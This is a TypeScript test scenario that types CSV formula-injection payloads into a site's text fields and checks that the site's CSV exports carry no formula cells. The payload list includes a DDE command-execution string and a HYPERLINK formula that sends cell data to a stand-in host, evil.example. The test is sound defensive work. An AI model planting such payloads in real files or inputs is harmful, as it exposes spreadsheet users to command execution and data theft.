import { scenario } from '../../reliability/scenario.ts';
import { requests } from '../../server/testing/requests.ts';
import { ask, openSite, operationsOf, readOpenApi } from '../site.ts';
import { fillTexts } from '../texts.ts';

const formulas = [
  `=cmd|'/c calc'!A0`,
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  ';=1+1',
  'x;=1+1',
  '";=1+1',
  ' =1+1',
  '\uFF1D1+1',
  'x,"=1+1"',
];

export default scenario({
  id: 'CSV',
  title: 'formulas in every file for spreadsheets',
  small: { rounds: 2 },
  full: { rounds: 11 },
  async run({ rounds }, outcome) {
    const site = await openSite();
    const files = operationsOf(await readOpenApi(site.url)).filter(({ parameters }) =>
      parameters.some(
        ({ name, schema }) => name === 'format' && JSON.stringify(schema).includes('"csv"'),
      ),
    );
    let [typed, cells, read] = [0, 0, 0];
    for (let round = 0; round < rounds; round += 1) {
      let next = round;
      typed += (await fillTexts(site, () => formulas[next++ % formulas.length]!)).typed;
      for (const { id } of files) {
        const right = requests[id].input(site.fixture) as { query?: object };
        const { cursor: _, ...query } = (right.query ?? {}) as { cursor?: unknown };
        const token = await site.fixture[requests[id].by].token();
        const { status, contentType, text } = await ask(site, id, token, {
          ...right,
          query: { ...query, format: 'csv' },
        });
        outcome.expect(status === 200 || status === 409, `${id} answers ${status}`);
        if (!contentType.startsWith('text/csv')) continue;
        read += 1;
        for (const separator of [',', ';']) {
          const found = cellsOf(text, separator);
          cells += found.length;
          outcome.expectNone(found.filter(isFormula).map((cell) => `${id} has the cell ${cell}`));
        }
      }
    }
    outcome.expect(read > 0, 'no file was read');
    outcome.expectNoticed('a cell as it was typed', cellsOf('a,=1+1\r\n', ',').filter(isFormula));
    return `${typed} texts, ${read} files of ${files.length} operations, ${cells} cells, ${outcome.breaches.length} formulas`;
  },
});

/** A number below zero is none, also where the comma behind it does not end its cell. */
const isFormula = (cell: string) =>
  /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?(?:,|$)/.test(cell);

/** As spreadsheets read: quotes count where a cell begins with one; a line break outside of them ends a row. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  const pattern = new RegExp(
    `"((?:[^"]|"")*)"[^${separator}\\r\\n]*|([^${separator}\\r\\n]*)`,
    'y',
  );
  const content = text.replace(/^\uFEFF/, '');
  for (let at = 0; at < content.length; at += 1) {
    pattern.lastIndex = at;
    const match = pattern.exec(content)!;
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    at = pattern.lastIndex;
  }
  return cells;
}
